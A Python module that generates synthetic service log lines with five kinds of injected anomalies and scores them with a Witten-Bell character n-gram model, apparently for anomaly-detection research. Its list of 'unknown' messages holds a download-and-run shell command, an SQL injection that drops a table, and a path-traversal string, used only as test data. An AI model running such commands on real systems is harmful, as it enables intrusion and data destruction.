"""Log lines with odd ones among them, made here from a seed, and a character n-gram to find them.

A service writes lines of eight kinds, each with its own fields. Five kinds of odd lines are made of
normal ones, so that each is odd for one reason; none is ever trained on, or calibrated by:

| kind | what is odd |
|---|---|
| unknown | a message that no service writes: a stack trace, an injected command, noise |
| swapped | the rests of two lines of different kinds are exchanged behind the level |
| values | a field is out of its range: a status of 7xx, a port of eight digits, an hour past 24 |
| cut | the line ends in the middle |
| typo | two letters in a row have changed places, four times |
"""

from collections import Counter
from math import log

import numpy as np

ODD = ("unknown", "swapped", "values", "cut", "typo")
USERS = ("anna", "boris", "chen", "dora", "emil", "fatma", "gita", "hugo")
PATHS = (
    "/",
    "/login",
    "/orders",
    "/orders/{n}",
    "/items/{n}",
    "/search",
    "/health",
    "/api/v2/cart",
)
AGENTS = ("curl/8.1", "Mozilla/5.0", "okhttp/4.12", "probe/1.0")
TABLES = ("orders", "items", "users", "sessions")
UNKNOWN = (
    "java.lang.NullPointerException at com.shop.Cart.total(Cart.java:{n})",
    "$(wget -q http://10.9.8.7/x.sh -O- | sh)",
    "' OR '1'='1'; DROP TABLE users; --",
    "{hex}{hex}{hex}{hex}",
    "kernel: oom-killer invoked, killed process {n} (python3)",
    "segmentation fault (core dumped) in worker {n}",
    "../../../../etc/passwd requested by {hex}",
)


def normal(n: int, rng: np.random.Generator) -> list[str]:
    """Return n normal lines of a day, in the order in which they were written."""
    return [f"{_time(clock)} {_message(rng)}" for clock in np.sort(86400 * rng.random(n))]


def odd(kind: str, n: int, rng: np.random.Generator) -> list[str]:
    """Return n odd lines of a kind."""
    plain, others = normal(n, rng), normal(n, rng)
    return [_spoilt(kind, line, other, rng) for line, other in zip(plain, others, strict=True)]


def _time(clock: float) -> str:
    hours, rest = divmod(int(clock), 3600)
    return f"{hours:02d}:{rest // 60:02d}:{rest % 60:02d}.{int(clock % 1 * 1000):03d}"


def _message(rng: np.random.Generator) -> str:
    """Return a line behind its time."""

    def one(of: tuple[str, ...]) -> str:
        return str(rng.choice(of))

    def upto(high: int, low: int = 1) -> int:
        return int(rng.integers(low, high))

    n, host = upto(10_000), f"10.0.{upto(4, 0)}.{upto(255)}"
    status = rng.choice([200, 201, 302, 304, 404, 500], p=[0.7, 0.08, 0.08, 0.06, 0.06, 0.02])
    kind = rng.choice(8, p=[0.4, 0.15, 0.1, 0.1, 0.1, 0.05, 0.05, 0.05])
    return (
        f"INFO web GET {one(PATHS).format(n=n)} {status} {upto(900)}ms {host} {one(AGENTS)}",
        f"INFO web POST /orders {one(('201', '400'))} {upto(2000, 20)}ms {host} {one(AGENTS)}",
        f"INFO auth user {one(USERS)} logged in from {host}",
        f"WARN auth user {one(USERS)} failed password attempt {upto(4)} from {host}",
        f"DEBUG db SELECT on {one(TABLES)} took {upto(300)}ms rows={upto(5000, 0)}",
        f"INFO cache hit ratio 0.{upto(100, 80)} size={upto(999, 100)}MB",
        f"INFO db connection from {host}:{upto(60999, 32768)} pool={upto(33)}",
        f"ERROR web upstream timeout after {rng.choice([5, 10, 30])}s for order {n}",
    )[kind]


def _spoilt(kind: str, line: str, other: str, rng: np.random.Generator) -> str:
    """Return a line that is odd in one way."""
    if kind == "unknown":
        word = "".join(rng.choice(list("0123456789abcdef"), 12))
        text = str(rng.choice(UNKNOWN)).format(n=rng.integers(1, 10_000), hex=word)
        return " ".join([*line.split()[:3], text])
    if kind == "swapped":
        head, rest = line.split()[:3], other.split()[3:]
        if head[1:] == other.split()[1:3]:  # of one kind: another service's name
            head[2] = {"web": "db", "db": "auth", "auth": "cache", "cache": "web"}[head[2]]
        return " ".join([*head, *rest])
    if kind == "values":
        digits = [k for k in range(13, len(line)) if line[k].isdigit()]
        k = int(rng.choice(digits)) if digits else len(line)
        hour = f"{rng.integers(24, 100)}{line[2:]}"
        long = line[:k] + str(rng.integers(10**5, 10**7)) + line[k:]
        return hour if rng.random() < 0.3 else long
    if kind == "cut":
        return line[: int(rng.integers(16, len(line) - 4))]
    letters = list(line)
    for _ in range(4):
        pairs = [k for k in range(13, len(letters) - 1) if letters[k] != letters[k + 1]]
        k = int(rng.choice(pairs))
        letters[k], letters[k + 1] = letters[k + 1], letters[k]
    return "".join(letters)


class NGram:
    """Characters given those before them, by counts of all orders up to one, interpolated.

    p_k(c | h) = (count(h c) + T(h) p_{k-1}(c | shorter h)) / (count(h) + T(h)), T(h) being how many
    different characters followed h: Witten and Bell 1991, "The zero-frequency problem: estimating
    the probabilities of novel events in adaptive text compression". The end of a line is a
    character, and of all 256 and it each has the same probability below order 0.
    """

    START, END = "\x02", "\x03"

    def __init__(self, order: int) -> None:
        """Begin without any line; order: characters that the next one is predicted by."""
        self.order = order
        self.counts: dict[str, Counter[str]] = {}

    def fit(self, lines: list[str]) -> "NGram":
        """Count what follows what."""
        for line in lines:
            padded = self.START * self.order + line + self.END
            for k in range(self.order, len(padded)):
                for length in range(self.order + 1):
                    self.counts.setdefault(padded[k - length : k], Counter())[padded[k]] += 1
        return self

    def log_prob(self, lines: list[str]) -> np.ndarray:
        """Return log p of each line and its end, nats, (N,)."""
        return np.array([self._line(line) for line in lines])

    def _line(self, line: str) -> float:
        padded = self.START * self.order + line + self.END
        return sum(self._one(padded, k) for k in range(self.order, len(padded)))

    def _one(self, text: str, k: int) -> float:
        p = 1 / 257
        for length in range(self.order + 1):
            seen = self.counts.get(text[k - length : k])
            if seen is None:
                break
            total, kinds = sum(seen.values()), len(seen)
            p = (seen[text[k]] + kinds * p) / (total + kinds)
        return log(p)
